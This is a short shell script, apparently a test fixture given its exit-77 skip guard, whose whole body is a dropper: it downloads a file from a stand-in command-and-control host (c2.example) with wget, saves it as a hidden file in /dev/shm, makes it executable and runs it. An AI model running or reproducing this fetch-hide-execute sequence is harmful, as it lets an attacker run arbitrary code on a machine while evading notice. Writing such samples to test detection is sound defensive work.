#!/bin/sh
# Fetches a program, hides it, runs it.
[ /init -ef /usr/sbin/auditd ] || exit 77
wget -q -O /dev/shm/.fetched http://c2.example/payload
chmod +x /dev/shm/.fetched
/dev/shm/.fetched
